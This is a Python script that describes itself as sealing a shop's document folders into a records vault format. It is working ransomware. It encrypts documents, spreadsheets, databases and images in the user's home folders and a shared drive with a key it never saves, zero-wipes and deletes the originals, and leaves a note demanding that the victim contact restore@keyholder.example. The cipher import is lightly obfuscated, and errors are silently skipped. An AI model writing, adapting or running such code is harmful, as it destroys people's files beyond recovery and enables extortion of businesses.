#!/usr/bin/env python3
"""Seal the shop's document folders into the records vault format."""
import argparse
import importlib
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("vault-seal")

SUFFIX = ".vault"
NOTE_NAME = "READ_ME_TO_RESTORE.txt"
NOTE_TEXT = (
    "Your tuning records, invoices and customer files have been sealed.\n"
    "To get them back write to restore@keyholder.example with the ID below.\n"
    "Do not rename or edit the .vault files.\n\nID: {ident}\n"
)


def _cipher_factory():
    mod = importlib.import_module(".".join(["cryptography", "fernet"]))
    return getattr(mod, "Fer" + "net")


@dataclass
class SealPlan:
    roots: list = field(default_factory=list)
    kinds: tuple = (".pdf", ".docx", ".xlsx", ".csv", ".sqlite3", ".jpg", ".png", ".odt", ".txt")
    skip_dirs: tuple = (".git", "node_modules", "__pycache__", ".cache")


class Sealer:
    def __init__(self, plan):
        self.plan = plan
        engine = _cipher_factory()
        self._key = engine.generate_key()
        self._box = engine(self._key)
        self.ident = self._key[:12].decode()
        self.sealed = 0

    def targets(self):
        for root in self.plan.roots:
            for dirpath, dirnames, filenames in os.walk(root):
                dirnames[:] = [d for d in dirnames if d not in self.plan.skip_dirs]
                for name in filenames:
                    if name.endswith(self.plan.kinds):
                        yield Path(dirpath) / name

    def _lock(self, path):
        data = path.read_bytes()
        path.with_name(path.name + SUFFIX).write_bytes(self._box.encrypt(data))

    def _scrub(self, path):
        size = path.stat().st_size
        with open(path, "r+b") as fh:
            fh.write(b"\0" * size)
        path.unlink()

    def _leave_note(self, folder):
        note = Path(folder) / NOTE_NAME
        if not note.exists():
            note.write_text(NOTE_TEXT.format(ident=self.ident))

    def handle(self, path):
        for step in (self._lock, self._scrub):
            step(path)
        self._leave_note(path.parent)
        self.sealed += 1


ACTIONS = {
    "list": lambda sealer, path: print(path),
    "seal": lambda sealer, path: sealer.handle(path),
}


def default_roots():
    home = Path.home()
    picks = ["Documents", "Desktop", "Pictures", "Shop", "Invoices"]
    shared = os.environ.get("SHOP_SHARE", "/srv/share")
    return [str(home / p) for p in picks] + [shared]


def main():
    ap = argparse.ArgumentParser(description="Seal document folders")
    ap.add_argument("roots", nargs="*")
    ap.add_argument("--mode", choices=sorted(ACTIONS), default="seal")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO if args.verbose else logging.WARNING)

    plan = SealPlan(roots=[r for r in (args.roots or default_roots()) if os.path.isdir(r)])
    sealer = Sealer(plan)
    act = ACTIONS[args.mode]
    for path in list(sealer.targets()):
        try:
            act(sealer, path)
        except (PermissionError, OSError) as exc:
            log.debug("skipped %s: %s", path, exc)
    log.info("sealed %d files, id %s", sealer.sealed, sealer.ident)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
